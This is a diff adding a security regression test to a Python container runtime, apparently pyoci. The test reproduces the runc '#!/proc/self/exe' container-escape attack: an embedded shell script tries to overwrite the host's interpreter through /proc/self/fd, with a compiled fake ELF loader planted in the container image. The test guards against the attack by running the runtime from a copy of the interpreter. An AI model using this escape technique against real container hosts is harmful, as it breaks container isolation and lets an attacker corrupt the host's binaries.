@@ -20,12 +20,16 @@ reading environ and opening every /proc/P/fd/N. The victims are
 from __future__ import annotations
 
 import os
+import platform
+import shutil
+import struct
+import subprocess
 import sys
 import time
 
 import pytest
 
-from conftest import force_delete, wait_for
+from conftest import HERE, force_delete, wait_for
 
 pytestmark = pytest.mark.root
 
@@ -126,3 +130,103 @@ def test_exec_process_holds_no_runtime_fd(runtime, bundle):
         assert sorted(int(x) for x in os.listdir(f"/proc/{pid}/fd")) == [0, 1, 2]
     finally:
         force_delete(runtime, "fdc")
+
+
+# ---------------------------------------------------------------------------------------------
+# The original runc exploit: the container's own program is "#!/proc/self/exe"
+# ---------------------------------------------------------------------------------------------
+ATTACK_SH = """\
+stat -L -c '%d %i' /proc/self/fd/3 > /shared/reached 2>&1
+i=0
+while [ $i -lt 100 ]; do
+    if (echo PWNED-BY-A-CONTAINER > /proc/self/fd/3) 2>/dev/null; then echo wrote > /shared/wrote; break; fi
+    i=$((i+1)); sleep 0.1
+done
+echo done > /shared/done
+"""
+
+
+def _elf_interpreter(path: str) -> str:
+    with open(path, "rb") as f:
+        data = f.read(1 << 16)
+    phoff, = struct.unpack_from("<Q", data, 0x20)
+    phentsize, phnum = struct.unpack_from("<HH", data, 0x36)
+    for i in range(phnum):
+        off = phoff + i * phentsize
+        if struct.unpack_from("<I", data, off)[0] == 3:            # PT_INTERP
+            p_offset, = struct.unpack_from("<Q", data, off + 8)
+            p_filesz, = struct.unpack_from("<Q", data, off + 32)
+            return data[p_offset:p_offset + p_filesz].rstrip(b"\0").decode()
+    raise AssertionError(f"{path} has no ELF interpreter")
+
+
+class CopyRuntime:
+    """The pyoci CLI run by a private copy of the host's python binary (so that the attack
+    below, if it works, overwrites the copy, not the host's interpreter)."""
+
+    def __init__(self, runtime, python_copy: str):
+        import pyoci
+        self.rt, self.python = runtime, python_copy
+        paths = [os.path.dirname(os.path.dirname(pyoci.__file__))] + [
+            p for p in sys.path if p.endswith("site-packages")]
+        self.env = dict(os.environ, PYTHONPATH=":".join(paths))
+
+    def run(self, *args, **kw):
+        from helpers import runner
+        saved = runner.PYOCI
+        runner.PYOCI = [self.python, "-m", "pyoci"]
+        try:
+            return self.rt.run(*args, env=self.env, **kw)
+        finally:
+            runner.PYOCI = saved
+
+
+@pytest.mark.skipif(platform.machine() != "x86_64", reason="the fake loader is x86-64 code")
+@pytest.mark.xfail(strict=True, reason="DEFECT (see the report of issue 5): the container init "
+                   "execs from a process whose /proc/self/exe is the host interpreter; a "
+                   "'#!/proc/self/exe' program gets an fd on it. Needs a re-exec of the "
+                   "runtime from a sealed memfd copy (or a read-only bind) before joining")
+def test_container_program_cannot_reach_the_interpreter_through_proc_self_exe(
+        runtime, bundle, tmp_path):
+    """The container's program is a script starting with "#!/proc/self/exe": the kernel
+    resolves that interpreter in the process that calls execve, the runtime's container init,
+    i.e. the host's python. With a loader of its own in the image, the attacker runs code
+    in a process whose /proc/self/exe is that python, keeps an O_PATH fd of it, and once no
+    runtime process executes the file any more, opens it for writing through
+    /proc/self/fd/N. The test runs pyoci from a copy of the interpreter, so that at worst
+    the copy is overwritten; the copy must be unchanged and never reached."""
+    real = os.path.realpath(sys.executable)
+    copy = tmp_path / "python-copy" / "bin" / "python3"
+    copy.parent.mkdir(parents=True)
+    shutil.copy2(real, copy)
+    original = copy.read_bytes()
+    st = os.stat(copy)
+    fakeld = tmp_path / "fakeld"
+    subprocess.run(["gcc", "-nostdlib", "-static-pie", "-fPIE", "-fno-stack-protector", "-fno-builtin",
+                    "-mgeneral-regs-only", "-O2", "-o", str(fakeld), os.path.join(HERE, "fakeld.c")],
+                   check=True, capture_output=True, timeout=120)
+    interp = bundle.rootfs / _elf_interpreter(real).lstrip("/")
+    interp.parent.mkdir(parents=True, exist_ok=True)
+    shutil.copy2(fakeld, interp)
+    (bundle.rootfs / "attack.sh").write_text(ATTACK_SH)
+    (bundle.rootfs / "entry").write_text("#!/proc/self/exe\n")
+    os.chmod(bundle.rootfs / "entry", 0o755)
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    bundle.config["mounts"].append({"destination": "/shared", "type": "none", "source": str(shared),
+                                    "options": ["rbind", "rw"]})
+    bundle.set_args("/entry")
+    rt = CopyRuntime(runtime, str(copy))
+    try:
+        p = rt.run("create", "--bundle", bundle.path, "selfexe")
+        assert p.returncode == 0, p.stderr
+        p = rt.run("start", "selfexe")
+        assert p.returncode == 0, p.stderr
+        wait_for(lambda: (shared / "done").exists() or not os.path.exists(
+            f"/proc/{runtime.state('selfexe')['pid']}"), timeout=20)
+    finally:
+        force_delete(runtime, "selfexe")
+    reached = (shared / "reached").read_text().split() if (shared / "reached").exists() else []
+    assert copy.read_bytes() == original, "the container overwrote the runtime's interpreter"
+    assert reached != [str(st.st_dev), str(st.st_ino)], \
+        "a container process got an fd on the runtime's interpreter through /proc/self/exe"
